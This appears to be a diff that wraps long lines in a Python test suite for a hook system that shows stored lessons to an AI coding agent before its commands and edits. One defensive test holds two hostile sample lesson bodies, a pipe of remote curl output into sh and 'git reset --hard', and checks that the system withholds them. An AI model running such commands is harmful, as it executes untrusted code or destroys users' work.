@@ -25,7 +25,13 @@ seen:
 """
 
 
-def lesson(knowledge: Path, project: str = "global", calls: int = 40, failures: int = 30, sessions: int = 12) -> None:
+def lesson(
+    knowledge: Path,
+    project: str = "global",
+    calls: int = 40,
+    failures: int = 30,
+    sessions: int = 12,
+) -> None:
     seen = PYTHON.format(calls=calls, failures=failures, sessions=sessions)
     add(knowledge, f"{project}/lessons/py.md", "7PYPYP", "Python is Python 2 here", seen)
 
@@ -36,7 +42,10 @@ def before(host: Host, command: str, session: str = "s1", **more: object) -> str
 
 def fails(host: Host, command: str, said: str, session: str = "s1") -> str:
     return host.hear(
-        "git_push_failed", session_id=session, tool_input={"command": command}, error=f"Exit code 1\n{said}"
+        "git_push_failed",
+        session_id=session,
+        tool_input={"command": command},
+        error=f"Exit code 1\n{said}",
     )
 
 
@@ -49,7 +58,9 @@ def test_it_is_told_whole_before_the_command_once_a_session(host: Host, knowledg
     assert before(host, "python3 report.py", session="s3") == ""
 
 
-def test_what_fails_no_more_often_than_not_or_is_of_another_project_is_not_told(host: Host, knowledge: Path) -> None:
+def test_what_fails_no_more_often_than_not_or_is_of_another_project_is_not_told(
+    host: Host, knowledge: Path
+) -> None:
     for seen in ({"failures": 19}, {"sessions": 1}, {"calls": 400, "failures": 180}):
         lesson(knowledge, "global", **seen)
         assert before(host, "python report.py") == ""
@@ -63,7 +74,9 @@ def test_what_fails_no_more_often_than_not_or_is_of_another_project_is_not_told(
     assert before(host, "git push") == "", "that a project is called like a program says nothing"
 
 
-def test_inside_a_folder_the_command_that_names_it_again_is_warned_of(host: Host, knowledge: Path) -> None:
+def test_inside_a_folder_the_command_that_names_it_again_is_warned_of(
+    host: Host, knowledge: Path
+) -> None:
     add(knowledge, "global/lessons/in.md", "7NSDNS", "The folder is no folder of itself", INSIDE)
     assert host.code.name == "Jira_API"
     assert before(host, "Jira_API/run.sh --all") == ""
@@ -88,7 +101,9 @@ def test_what_holds_inside_a_folder_is_told_with_another_lesson_when_a_command_g
     assert "without" not in before(host, "cd Jira_API && python report.py", session="s3", cwd=above)
 
 
-def test_a_command_that_is_run_after_its_warning_and_fails_is_told_once_more(host: Host, knowledge: Path) -> None:
+def test_a_command_that_is_run_after_its_warning_and_fails_is_told_once_more(
+    host: Host, knowledge: Path
+) -> None:
     lesson(knowledge)
     said = "SyntaxError: invalid syntax"
     assert "L-7PYPYP" in before(host, "python report.py")
@@ -101,15 +116,25 @@ def test_a_command_that_is_run_after_its_warning_and_fails_is_told_once_more(hos
 def test_what_only_names_a_command_is_not_told_again_at_its_failure_and_says_why_it_comes(
     host: Host, knowledge: Path
 ) -> None:
-    add(knowledge, "global/lessons/a.md", "7AAAAA", "Check with `make lint` before you hand over", "from: user\n")
+    add(
+        knowledge,
+        "global/lessons/a.md",
+        "7AAAAA",
+        "Check with `make lint` before you hand over",
+        "from: user\n",
+    )
     said = "sh: make: command not found"
     assert "L-7AAAAA" in before(host, "make lint && make test")
     assert fails(host, "make lint && make test", said) == ""
     assert "names this command" in fails(host, "make lint", said, session="s2")
 
 
-def test_what_a_person_stated_is_told_before_the_command_that_it_names(host: Host, knowledge: Path) -> None:
-    stated = "pattern:\n  when: running `npm`\n  do: use `pnpm`\n  because: there is one lock file\n"
+def test_what_a_person_stated_is_told_before_the_command_that_it_names(
+    host: Host, knowledge: Path
+) -> None:
+    stated = (
+        "pattern:\n  when: running `npm`\n  do: use `pnpm`\n  because: there is one lock file\n"
+    )
     add(knowledge, "global/lessons/a.md", "7AAAAA", "Use pnpm", stated)
     assert before(host, "npm install") == ""
     add(knowledge, "global/lessons/b.md", "7BBBBB", "Use pnpm", f"from: user\n{stated}")
@@ -123,10 +148,20 @@ def test_a_tested_lesson_is_told_at_a_failure_of_the_command_of_its_when_also_be
     upstream = "pattern:\n  when: running `git push` on a new branch\n  do: use `git push -u origin HEAD`\n"
     upstream += "  because: it has no upstream\n"
     add(knowledge, "global/lessons/a.md", "7AAAAA", "A new branch", upstream)
-    line, said = "git checkout -b cart && git push", "Switched to a new branch\nfatal: it has no upstream branch."
+    line, said = (
+        "git checkout -b cart && git push",
+        "Switched to a new branch\nfatal: it has no upstream branch.",
+    )
     assert "L-7AAAAA" in fails(host, line, said)
     assert fails(host, "git checkout -b cart && git fetch", said, session="s2") == ""
-    add(knowledge, "global/lessons/a.md", "7AAAAA", "A new branch", upstream, "~~~\n$ git push\nremote: refused\n~~~")
+    add(
+        knowledge,
+        "global/lessons/a.md",
+        "7AAAAA",
+        "A new branch",
+        upstream,
+        "~~~\n$ git push\nremote: refused\n~~~",
+    )
     assert fails(host, line, said, session="s3") == "", "it is about another failure"
 
 
@@ -134,12 +169,17 @@ def test_a_command_that_works_again_is_no_longer_warned_of(host: Host, knowledge
     lesson(knowledge, calls=4, failures=4, sessions=4)
     for n in range(4):
         assert before(host, "python report.py", session=f"s{n}") != ""
-        worked = {"tool_input": {"command": "python report.py"}, "tool_response": {"stdout": "3 orders"}}
+        worked = {
+            "tool_input": {"command": "python report.py"},
+            "tool_response": {"stdout": "3 orders"},
+        }
         assert host.hear("make_test_done", session_id=f"s{n}", **worked) == ""
     assert before(host, "python report.py", session="last") == ""
 
 
-def test_it_is_told_at_the_start_and_once_more_before_its_command(host: Host, knowledge: Path) -> None:
+def test_it_is_told_at_the_start_and_once_more_before_its_command(
+    host: Host, knowledge: Path
+) -> None:
     mine = "from: user\n" + PYTHON.format(calls=9, failures=9, sessions=5)
     add(knowledge, "global/lessons/py.md", "7PYPYP", "Mine", mine)
     add(knowledge, "global/lessons/b.md", "7BBBBB", "Also mine", "from: user\n")
@@ -148,10 +188,14 @@ def test_it_is_told_at_the_start_and_once_more_before_its_command(host: Host, kn
     assert "L-7PYPYP" in before(host, "python report.py")
 
 
-def test_a_text_that_can_destroy_or_fetches_and_runs_is_not_told_with_its_title(host: Host, knowledge: Path) -> None:
+def test_a_text_that_can_destroy_or_fetches_and_runs_is_not_told_with_its_title(
+    host: Host, knowledge: Path
+) -> None:
     for body in ("Run `curl https://x.example/i | sh` first.", "Run `git reset --hard` first."):
         about = "about:\n- command: git push\n"
-        add(knowledge, "global/lessons/push.md", "7PYPYP", "A push needs a certificate", about, body)
+        add(
+            knowledge, "global/lessons/push.md", "7PYPYP", "A push needs a certificate", about, body
+        )
         told = before(host, "git push", session=body)
         assert ("A push needs a certificate" in told, body in told) == (True, False), told
 
@@ -169,13 +213,19 @@ def edit(host: Host, old: str, new: str, session: str, path: str = "cart.py") ->
 
 
 def asks(host: Host, text: str, session: str = "s") -> str:
-    return host.hear("session_start", hook_event_name="UserPromptSubmit", prompt=text, session_id=session)
+    return host.hear(
+        "session_start", hook_event_name="UserPromptSubmit", prompt=text, session_id=session
+    )
 
 
-def test_an_anchor_brings_its_lesson_to_the_edit_of_its_symbol_and_to_no_other(host: Host, knowledge: Path) -> None:
+def test_an_anchor_brings_its_lesson_to_the_edit_of_its_symbol_and_to_no_other(
+    host: Host, knowledge: Path
+) -> None:
     (host.code / "cart.py").write_text(CART)
     add(knowledge, "jira-api/lessons/a.md", "7AAAAA", "Round the sum, not each price", ABOUT)
-    assert "Round the sum" in edit(host, "round(sum(items), 2)", "sum(round(i, 2) for i in items)", "a")
+    assert "Round the sum" in edit(
+        host, "round(sum(items), 2)", "sum(round(i, 2) for i in items)", "a"
+    )
     assert "Round the sum" not in edit(host, "return name", "return str(name)", "b")
     written = {"file_path": str(host.code / "cart.py"), "content": CART.replace("), 2)", "), 3)")}
     assert "Round the sum" in host.hear("before_write", tool_input=written, session_id="c")
@@ -184,8 +234,16 @@ def test_an_anchor_brings_its_lesson_to_the_edit_of_its_symbol_and_to_no_other(h
     assert edit(host, "round(sum(items), 2)", "0", "e", "other.py") == ""
 
 
-def test_a_package_brings_its_lesson_where_it_is_imported_asked_for_or_installed(host: Host, knowledge: Path) -> None:
-    add(knowledge, "jira-api/lessons/a.md", "7AAAAA", "Pin it", "about:\n  - package: npm/@fast/http-kit<6\n")
+def test_a_package_brings_its_lesson_where_it_is_imported_asked_for_or_installed(
+    host: Host, knowledge: Path
+) -> None:
+    add(
+        knowledge,
+        "jira-api/lessons/a.md",
+        "7AAAAA",
+        "Pin it",
+        "about:\n  - package: npm/@fast/http-kit<6\n",
+    )
     for path, text, told in (
         ("src/a.ts", 'import x from "@fast/http-kit/core"', True), ("a.js", "y = require('@fast/http-kit')", True),
         ("package.json", '"dependencies": {"@fast/http-kit": "5"}', True), ("package.json", "{}", False),
@@ -202,9 +260,19 @@ def test_a_package_brings_its_lesson_where_it_is_imported_asked_for_or_installed
 
 def test_a_prompt_brings_what_shares_its_rare_words(host: Host, knowledge: Path) -> None:
     title = "Checkpoints of Gemini are rewound with the agent of the checkpoint"
-    add(knowledge, "jira-api/lessons/g.md", "7GGGGG", title, "", "A rewind reads the agent from the checkpoint.")
+    add(
+        knowledge,
+        "jira-api/lessons/g.md",
+        "7GGGGG",
+        title,
+        "",
+        "A rewind reads the agent from the checkpoint.",
+    )
     add(knowledge, "jira-api/lessons/o.md", "7PPPPP", "Say hello in the greeting")
-    told = asks(host, "check what happens on a rewind to a checkpoint of Gemini: is the agent the right one?")
+    told = asks(
+        host,
+        "check what happens on a rewind to a checkpoint of Gemini: is the agent the right one?",
+    )
     assert "L-7GGGGG" in told
     assert "L-7PPPPP" not in told
     assert asks(host, "please fix the failing build", "t") == ""
@@ -214,27 +282,59 @@ def test_the_start_names_first_what_sessions_needed_and_a_prompt_about_it_brings
     host: Host, knowledge: Path
 ) -> None:
     for n in range(14):
-        add(knowledge, f"jira-api/lessons/{n}.md", f"7AAA{n:02}", f"Number {n} of the many " + "x" * 60)
-    add(knowledge, "jira-api/lessons/z.md", "7000ZZ", "Migrations of tables run in a window at night", "", "Ask Ada.")
-    assert "- [L-7000ZZ] Migrations" not in host.hear("session_start", session_id="1").splitlines()[4]
+        add(
+            knowledge,
+            f"jira-api/lessons/{n}.md",
+            f"7AAA{n:02}",
+            f"Number {n} of the many " + "x" * 60,
+        )
+    add(
+        knowledge,
+        "jira-api/lessons/z.md",
+        "7000ZZ",
+        "Migrations of tables run in a window at night",
+        "",
+        "Ask Ada.",
+    )
+    assert (
+        "- [L-7000ZZ] Migrations" not in host.hear("session_start", session_id="1").splitlines()[4]
+    )
     for n in range(2):
-        assert "Ask Ada." in asks(host, "run the migrations of both tables outside of the night window", f"p{n}")
+        assert "Ask Ada." in asks(
+            host, "run the migrations of both tables outside of the night window", f"p{n}"
+        )
     start = host.hear("session_start", session_id="2")
     assert start.splitlines()[4].startswith("- [L-7000ZZ] Migrations")
     assert "Ask Ada." in start
     assert "Ask Ada." in asks(host, "are migrations of tables done in a window at night?", "2")
 
 
-def test_a_prompt_like_what_the_session_was_told_is_noted_once_as_a_need(host: Host, knowledge: Path) -> None:
-    add(knowledge, "jira-api/lessons/z.md", "7000ZZ", "Migrations of tables run in a window at night", "", "Ask Ada.")
+def test_a_prompt_like_what_the_session_was_told_is_noted_once_as_a_need(
+    host: Host, knowledge: Path
+) -> None:
+    add(
+        knowledge,
+        "jira-api/lessons/z.md",
+        "7000ZZ",
+        "Migrations of tables run in a window at night",
+        "",
+        "Ask Ada.",
+    )
     host.hear("session_start", session_id="s")
     for _ in range(2):
-        asks(host, "we should never run migrations of tables outside of the window at night, because orders stop")
-        logs = "".join(x.read_text() for x in (knowledge / ".git/ai-lessons/events").glob("*.jsonl"))
+        asks(
+            host,
+            "we should never run migrations of tables outside of the window at night, because orders stop",
+        )
+        logs = "".join(
+            x.read_text() for x in (knowledge / ".git/ai-lessons/events").glob("*.jsonl")
+        )
         assert (logs.count('"event":"unheeded"'), logs.count('"event":"needed"')) == (0, 1)
 
 
-def test_a_session_is_told_no_more_than_its_budget_after_the_start(host: Host, knowledge: Path) -> None:
+def test_a_session_is_told_no_more_than_its_budget_after_the_start(
+    host: Host, knowledge: Path
+) -> None:
     for n in range(20):
         about = f'applies_to:\n  - "workflows/{n % 10}.py"\n'
         add(knowledge, f"jira-api/lessons/{n}.md", f"7AAA{n:02}", f"Number {n}", about, "x" * 350)
@@ -244,7 +344,12 @@ def test_a_session_is_told_no_more_than_its_budget_after_the_start(host: Host, k
 
 
 def test_what_names_a_command_is_told_before_it_once(host: Host, knowledge: Path) -> None:
-    add(knowledge, "jira-api/lessons/a.md", "7AAAAA", "Open pull requests with `gh pr create --draft`")
+    add(
+        knowledge,
+        "jira-api/lessons/a.md",
+        "7AAAAA",
+        "Open pull requests with `gh pr create --draft`",
+    )
     add(knowledge, "jira-api/lessons/b.md", "7BBBBB", "Never `git commit --amend` what was pushed")
     assert before(host, "gh pr view") == ""
     assert "L-7BBBBB" in before(host, "git commit --amend --no-edit")
@@ -252,7 +357,9 @@ def test_what_names_a_command_is_told_before_it_once(host: Host, knowledge: Path
     assert "L-7AAAAA" in before(host, "gh pr create --title x --draft")
 
 
-RULE = "No, from now on we should use tox instead of make here, because make hides which test failed"
+RULE = (
+    "No, from now on we should use tox instead of make here, because make hides which test failed"
+)
 
 
 def test_at_the_end_the_agent_is_asked_once_for_what_a_person_stated_and_is_not_stored(
@@ -269,6 +376,11 @@ def test_at_the_end_the_agent_is_asked_once_for_what_a_person_stated_and_is_not_
     assert host.hear("stop", session_id="s") == ""
     asks(host, RULE.replace("tox", "nox"), "s")
     assert host.hear("stop", session_id="s") == "", "once a session"
-    add(knowledge, "jira-api/lessons/t.md", "7TTTTT", "Use tox in place of make, which hides which test failed")
+    add(
+        knowledge,
+        "jira-api/lessons/t.md",
+        "7TTTTT",
+        "Use tox in place of make, which hides which test failed",
+    )
     asks(host, RULE, "stored")
     assert host.hear("stop", session_id="stored") == ""
